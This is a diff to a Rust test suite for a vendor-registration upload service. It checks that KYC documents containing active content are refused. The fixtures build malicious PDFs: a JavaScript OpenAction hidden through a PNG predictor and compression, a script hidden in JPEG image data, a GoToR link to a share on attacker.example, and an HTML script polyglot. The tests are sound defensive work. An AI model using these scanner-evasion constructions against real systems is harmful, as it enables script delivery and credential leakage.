@@ -156,7 +156,8 @@ on_both_databases!(pdfs_with_scripts_or_embedded_files_are_refused, |backend: Ba
     for (field, label, file) in cases {
         let (status, body) =
             apply(&app, &token, registration(vec![(field, part(file, "doc.pdf", "application/pdf"))], &[])).await;
-        let message = format!("{label} contains scripts, actions or embedded files; it is not accepted");
+        let message =
+            format!("{label} contains scripts, actions, links to other files or embedded files; it is not accepted");
         assert_eq!((status, body["message"].as_str()), (415, Some(message.as_str())), "{field}");
     }
     assert_eq!(registrations(&app).await, 0);
@@ -283,4 +284,100 @@ on_both_databases!(kyc_documents_reach_only_their_owner_and_admins, |backend: Ba
     let name = pan.stored_name.trim_start_matches("private/");
     assert_eq!(app.get(&format!("/media/{name}")).await.status().as_u16(), 404);
     assert_eq!(app.get(&format!("/static/{}", pan.stored_name)).await.status().as_u16(), 404);
+});
+
+// Issue 25: PDFs are read by a parser, so the bypasses of a scan are refused: a script in
+// an object stream under a PNG predictor, a script in a picture's data that the xref points
+// at, a GoToR to a Windows share, and "PDFs" without objects.
+on_both_databases!(pdfs_read_by_a_parser_refuse_what_a_scan_let_through, |backend: Backend| async move {
+    let app = TestApp::spawn(backend).await.unwrap();
+    let (_, token) = app.vendor("parsed-pdf@suppliers.test", false).await;
+    let pages = || -> Vec<(u32, Vec<u8>)> {
+        vec![
+            (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec()),
+            (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec()),
+        ]
+    };
+    let script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
+    // An object stream whose rows of 16 bytes are each stored as the difference from the
+    // row above (PNG "Up"), then compressed: no name is spelt in the inflated data.
+    let members = format!("4 0 {script} ");
+    let mut rows = members.into_bytes();
+    rows.resize(rows.len().div_ceil(16) * 16, b' ');
+    let mut predicted = Vec::new();
+    let mut previous = [0u8; 16];
+    for row in rows.chunks(16) {
+        predicted.push(2);
+        predicted.extend(row.iter().zip(previous).map(|(b, p)| b.wrapping_sub(p)));
+        previous.copy_from_slice(row);
+    }
+    let mut zip = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut zip, &predicted).unwrap();
+    let object_stream = pdf_stream(
+        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 16 >>",
+        &zip.finish().unwrap(),
+    );
+    let mut bodies = vec![(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>".to_vec())];
+    bodies.extend(pages());
+    bodies.push((10, object_stream));
+    let predictor = pdf_indexed(&bodies, &[1, 2, 3, 10]);
+    // The script's object inside a JPEG picture's data, the xref pointing there.
+    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\n".to_vec();
+    jpeg.extend_from_slice(format!("4 0 obj\n{script}\nendobj\n").as_bytes());
+    jpeg.extend_from_slice(b"\xff\xd9");
+    let mut bodies = vec![(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>".to_vec())];
+    bodies.extend(pages());
+    bodies.push((5, pdf_stream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode", &jpeg)));
+    let in_picture = pdf_indexed(&bodies, &[1, 2, 3, 4, 5]);
+    let mut bodies = vec![(
+        1,
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>".to_vec(),
+    )];
+    bodies.extend(pages());
+    let gotor = pdf_indexed(&bodies, &[1, 2, 3]);
+    let active = "contains scripts, actions, links to other files or embedded files; it is not accepted";
+    let unreadable = "is not a readable PDF document";
+    let cases = [
+        ("aadharFile", "Aadhar card", predictor, active),
+        ("panFile", "PAN card", in_picture, active),
+        ("gstFile", "GST certificate", gotor, active),
+        (
+            "udyamFile",
+            "Udyam registration",
+            b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n".to_vec(),
+            unreadable,
+        ),
+        ("msmeFile", "MSME registration", b"%PDF-1.4\n%%EOF\n".to_vec(), unreadable),
+    ];
+    for (field, label, file, message) in cases {
+        let (status, body) =
+            apply(&app, &token, registration(vec![(field, part(file, "doc.pdf", "application/pdf"))], &[])).await;
+        assert_eq!((status, body["message"].as_str()), (415, Some(format!("{label} {message}").as_str())), "{field}");
+    }
+    assert_eq!(registrations(&app).await, 0);
+    assert!(stored_files(app.data_dir.path()).is_empty(), "nothing stored");
+});
+
+// Issue 25: a document picture is decoded to 8 bits a sample and scaled to at most 4000
+// pixels a side before it is stored.
+on_both_databases!(large_document_pictures_are_stored_scaled_down, |backend: Backend| async move {
+    let app = TestApp::spawn(backend).await.unwrap();
+    let (vendor, token) = app.vendor("wide-scan@suppliers.test", false).await;
+    let wide = image::ImageBuffer::from_fn(4100, 60, |x, y| image::Rgba([x as u16 * 15, y as u16 * 900, 30000, 65535]));
+    let mut sixteen_bit = std::io::Cursor::new(Vec::new());
+    image::DynamicImage::ImageRgba16(wide).write_to(&mut sixteen_bit, image::ImageFormat::Png).unwrap();
+    let file = part(sixteen_bit.into_inner(), "aadhar.png", "image/png");
+    let (status, body) = apply(&app, &token, registration(vec![("aadharFile", file)], &[])).await;
+    assert_eq!(status, 201, "{body}");
+    let (_, admin) = app.admin("scans@admins.test").await;
+    let response = app
+        .client
+        .get(app.url(&format!("/api/v1/vendorRegistration/document/{vendor}/aadharFile")))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status().as_u16(), 200);
+    let stored = image::load_from_memory(&response.bytes().await.unwrap()).unwrap();
+    assert_eq!((stored.width(), stored.height(), stored.color()), (4000, 59, image::ColorType::Rgba8));
 });
